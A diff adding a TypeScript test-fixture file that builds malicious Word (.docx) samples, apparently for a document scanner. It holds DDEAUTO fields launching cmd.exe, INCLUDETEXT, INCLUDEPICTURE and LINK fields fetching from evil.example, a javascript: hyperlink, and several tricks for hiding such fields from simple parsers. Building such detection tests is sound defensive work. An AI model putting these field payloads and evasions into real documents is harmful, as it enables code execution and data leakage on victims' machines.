@@ -1,0 +1,177 @@
+import { docxFile, field, mark, said, simpleField, wordDocument, wordPart } from '../../support/docx';
+import { type Hostile, hostileFile } from './hostile';
+
+const hostile = hostileFile('docx');
+
+const command = 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"';
+
+const inDocument = (content: string) => docxFile({ 'word/document.xml': wordDocument(content) });
+
+const split = [...command].map((letter) => said(letter === '"' ? '&quot;' : letter)).join('');
+
+const instructions: [string, Hostile['because']][] = [
+  [command, 'starts a program'],
+  ['dde cmd x', 'starts a program'],
+  ['  ddeauto  cmd x', 'starts a program'],
+  ['&#68;DEAUTO cmd x', 'starts a program'],
+  ['"DDEAUTO" cmd x', 'starts a program'],
+  ['DATABASE \\d "x" \\c "DSN=x" \\s "SELECT 1"', 'starts a program'],
+  ['PRINT "27 x"', 'starts a program'],
+  ['CONTROL x.y.1', 'starts a program'],
+  ['INCLUDETEXT "http://evil.example/x"', 'fetched from elsewhere'],
+  ['INCLUDETEXT "\\\\\\\\evil.example\\\\x"', 'fetched from elsewhere'],
+  ['INCLUDEPICTURE \\d "https://evil.example/x.png"', 'fetched from elsewhere'],
+  ['INCLUDEPICTURE //evil.example/x.png', 'fetched from elsewhere'],
+  ['INCLUDEPICTURE “file:////evil.example/x.png”', 'fetched from elsewhere'],
+  ['includepicture "mhtml:http://evil.example/x"', 'fetched from elsewhere'],
+  ['IMPORT "http://evil.example/x.wmf"', 'fetched from elsewhere'],
+  ['INCLUDE "\\\\\\\\evil.example\\\\x"', 'fetched from elsewhere'],
+  ['RD "http://evil.example/x.docx"', 'fetched from elsewhere'],
+  ['LINK Excel.Sheet.12 "\\\\\\\\evil.example\\\\x.xlsx" "A!R1C1:R2C2" \\a', 'fetched from elsewhere'],
+  ['LINK htmlfile "http://evil.example/x" \\a', 'fetched from elsewhere'],
+  ['HYPERLINK "\\\\\\\\evil.example\\\\x"', 'leads to a program'],
+  ['HYPERLINK \\l "x" "javascript:alert(1)"', 'leads to a program'],
+  ['HYPERLINK \\lx "\\\\\\\\evil.example\\\\x"', 'leads to a program'],
+  ['HYPERLINK \\n "file:///C:\\\\x.exe"', 'a link to a program'],
+];
+
+const written: Hostile[] = instructions.flatMap(([instruction, because]) => [
+  hostile(`with a field of ${instruction}`, inDocument(field(said(instruction))), because),
+  hostile(`with a simple field of ${instruction}`, inDocument(simpleField(attribute(instruction))), because),
+]);
+
+function attribute(text: string): string {
+  return text.replaceAll('"', '&quot;');
+}
+
+const parts: Hostile[] = [
+  ['header1', 'hdr'],
+  ['footer1', 'ftr'],
+  ['footnotes', 'footnotes'],
+  ['endnotes', 'endnotes'],
+  ['comments', 'comments'],
+  ['glossary/document', 'glossaryDocument'],
+  ['anything', 'p'],
+].map(([name = '', element = '']) =>
+  hostile(
+    `with a field that starts a program in ${name}`,
+    docxFile({ [`word/${name}.xml`]: wordPart(element, field(said(command))) }),
+    'starts a program',
+  ),
+);
+
+const noise = (content: string) => `<x:x xmlns:x="urn:x">${content}</x:x>`;
+const choice = (content: string) =>
+  `<mc:AlternateContent><mc:Choice Requires="w">${content}</mc:Choice></mc:AlternateContent>`;
+
+/** Instructions that are put together in a way that a simple reader does not see. */
+const disguised: Hostile[] = [
+  hostile('with every letter of a field apart', inDocument(field(split)), 'starts a program'),
+  hostile('with a comment in a field', inDocument(field(said('DDE<!-- -->AUTO x'))), 'starts a program'),
+  hostile(
+    'with an instruction in pieces of text',
+    inDocument(field(said('DD<![CDATA[EAU]]>TO x'))),
+    'starts a program',
+  ),
+  hostile(
+    'with deleted letters in a field',
+    inDocument(field(said('DD'), said('x', 'delInstrText'), said('E x'))),
+    'starts a program',
+  ),
+  hostile(
+    'with letters of a deleted run in a field',
+    inDocument(field(said('DD'), `<w:del>${said('x')}</w:del>`, said('E x'))),
+    'starts a program',
+  ),
+  hostile(
+    'with letters of text in a field',
+    inDocument(field(said('D'), said('DE', 't'), said(' x'))),
+    'starts a program',
+  ),
+  hostile(
+    'with letters between those of a field',
+    inDocument(field(said('D'), said('x', 't'), said('DE x'))),
+    'starts a program',
+  ),
+  hostile('with a field that does not end', inDocument(mark('begin') + said(command)), 'starts a program'),
+  hostile(
+    'with a field that has no result',
+    inDocument(mark('begin') + said(command) + mark('end')),
+    'starts a program',
+  ),
+  hostile('with a field in a field', inDocument(field(said('IF 1 = 1 '), field(said(command)))), 'starts a program'),
+  hostile(
+    'with a field in the result of another',
+    inDocument(mark('begin') + said('PAGE') + mark('separate') + field(said(command))),
+    'starts a program',
+  ),
+  hostile(
+    'with a field whose name is computed',
+    inDocument(field(field(said('QUOTE 68 68 69')), said(' x y'))),
+    'starts a program',
+  ),
+  hostile(
+    'with a field whose name is computed in part',
+    inDocument(field(said('D'), field(said('QUOTE 68 69')), said(' x'))),
+    'starts a program',
+  ),
+  hostile(
+    'with a picture whose place is computed',
+    inDocument(field(said('INCLUDEPICTURE "'), field(said('REF x')), said('"'))),
+    'fetched',
+  ),
+  hostile('with a field in alternatives', inDocument(field(said('DD'), choice(said('E x')))), 'damaged'),
+  hostile(
+    'with the end of an instruction in alternatives',
+    inDocument(field(said('DD'), choice(mark('separate')), said('E x'))),
+    'damaged',
+  ),
+  hostile(
+    'with the end of an instruction in an unknown element',
+    inDocument(field(said('DD'), noise(mark('separate')), said('E x'))),
+    'damaged',
+  ),
+  hostile(
+    'with the end of an instruction in a deleted run',
+    inDocument(field(said('DD'), `<w:del>${mark('separate')}</w:del>`, said('E x'))),
+    'damaged',
+  ),
+  hostile('with a field of the other dialect', inOtherDialect(), 'starts a program'),
+];
+
+function inOtherDialect(): Buffer {
+  const transitional = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main';
+  const strict = 'http://purl.oclc.org/ooxml/wordprocessingml/main';
+  return docxFile({ 'word/document.xml': wordDocument(field(said(command))).replace(transitional, strict) });
+}
+
+const others: Hostile[] = [
+  hostile('with a mail merge', docxFile({ 'word/settings.xml': mailMerge() }), 'starts a program'),
+  hostile('with a control', inDocument('<w:control w:name="x"/>'), 'starts a program'),
+  hostile(
+    'whose data hold a whole document',
+    docxFile({
+      'customXml/item1.xml': '<x>&lt;pkg:package xmlns:pkg="http://schemas.microsoft.com/office/2006/xmlPackage"></x>',
+    }),
+    'packed as text',
+  ),
+  hostile(
+    'whose data are a whole document',
+    docxFile({ 'customXml/item1.xml': '<package xmlns="http://schemas.microsoft.com/office/2006/xmlPackage"/>' }),
+    'packed as text',
+  ),
+  hostile(
+    'with a picture with a script',
+    docxFile(
+      { 'word/media/a.svg': '<svg xmlns="http://www.w3.org/2000/svg"><script/></svg>' },
+      { svg: 'image/svg+xml' },
+    ),
+    'starts a program',
+  ),
+];
+
+function mailMerge(): string {
+  return wordPart('settings', '<w:mailMerge><w:connectString w:val="Provider=x;Data Source=evil"/></w:mailMerge>');
+}
+
+export const docxsWithFields: Hostile[] = [...written, ...parts, ...disguised, ...others];
